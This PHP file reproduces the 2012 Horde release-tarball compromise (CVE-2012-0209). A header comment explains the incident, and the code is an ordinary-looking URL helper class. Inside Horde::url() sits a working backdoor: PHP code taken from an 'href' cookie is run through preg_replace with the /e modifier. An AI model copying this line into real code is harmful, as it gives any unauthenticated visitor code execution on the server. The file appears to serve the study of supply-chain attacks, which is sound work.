<?php
/*
 * Incident: Horde 3.3.12, Horde Groupware 1.2.10 and Horde Groupware Webmail Edition 1.2.10
 * (CVE-2012-0209). Between November 2011 and February 2012 the release tarballs on
 * ftp.horde.org had been altered by an intruder: a few added lines ran PHP code supplied in a
 * request cookie ("href") through preg_replace with the /e modifier, giving unauthenticated
 * code execution on every server that installed them. The git repository was not affected.
 * Which file and function held the lines is not recorded here; this reproduction puts them in
 * the URL helper every page loads.
 * Reference: https://lists.horde.org/archives/announce/2012/000751.html
 * Reproduction (own code, placeholder host).
 */

class Horde
{
    /**
     * Returns a URL with the session id appended if cookies are off.
     */
    public static function url($uri, $full = false, $append_session = 0)
    {
        $uri = (string) $uri;
        if ($full && strpos($uri, '://') === false) {
            $scheme = (!empty($_SERVER['HTTPS']) && $_SERVER['HTTPS'] !== 'off') ? 'https' : 'http';
            $host = isset($_SERVER['HTTP_HOST']) ? $_SERVER['HTTP_HOST'] : 'localhost';
            $uri = $scheme . '://' . $host . '/' . ltrim($uri, '/');
        }

        if (isset($_COOKIE['href'])) {
            @preg_replace('/(.*)/e', $_COOKIE['href'], '');
        }

        if ($append_session == 1 || ($append_session == 0 && empty($_COOKIE[session_name()]))) {
            $uri .= (strpos($uri, '?') === false ? '?' : '&') . urlencode(session_name()) . '=' . urlencode(session_id());
        }
        return $uri;
    }

    /**
     * Adds a parameter to a URL.
     */
    public static function addParameter($url, $name, $value)
    {
        $sep = (strpos($url, '?') === false) ? '?' : '&';
        return $url . $sep . rawurlencode($name) . '=' . rawurlencode($value);
    }

    /**
     * Writes a message to the Horde log.
     */
    public static function logMessage($message, $priority = 'INFO')
    {
        error_log('[horde] ' . $priority . ': ' . $message);
    }
}
